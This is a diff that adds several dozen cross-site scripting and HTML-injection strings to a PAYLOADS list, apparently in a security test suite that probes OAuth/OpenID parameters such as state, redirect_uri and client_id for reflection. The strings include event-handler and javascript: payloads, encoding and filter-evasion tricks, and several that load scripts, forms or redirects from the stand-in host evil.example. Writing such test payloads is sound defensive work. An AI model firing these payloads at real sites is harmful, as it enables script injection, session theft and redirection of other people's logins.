@@ -71,6 +71,13 @@ PAYLOADS: tuple[str, ...] = (
     "{% raw %}", "<!--", "]]>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<math><mtext></form><form><mglyph>",
     "\u003cscript\u003e", "&lt;script&gt;", "%3Cscript%3E", "+ADw-script+AD4-", '<a href="javas\tcript:alert(1)">', "\x0b<b>",
     "<img/src=`x`onerror=alert(1)>", "<body onload=alert(1)>", "<style>@import'//evil'</style>", "<base href=//evil.example>",
+    "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>", "<a href=data:text/html,<script>alert(1)</script>>",
+    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<xss style=x:expression(1)>",
+    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example>",
+    "<button formaction=javascript:alert(1)>x", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>",
+    '"><svg><script>alert&#40;1)</script>', '";alert(1);//', "';alert(1);//", "\\u003cscript\\u003ealert(1)", "\ufeff<script>alert(1)</script>",
+    "<sCrIpT>alert(1)</sCrIpT>", "<script\n>alert(1)</script>", "<script/src=//evil.example></script>", "<svg><animate onbegin=alert(1)>",
+    "<table background=javascript:alert(1)>", "<img src=//evil.example/", "vbscript:msgbox(1)", "&#106;avascript:alert(1)", "java\tscript:alert(1)",
     "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u2028alert(1)", "<scr<script>ipt>", "\u202egnp.exe",
 )  # fmt: skip
 ECHOING = ("state", "nonce", "login_hint", "ui_locales", "acr_values", "client_id", "redirect_uri", "scope", "prompt",
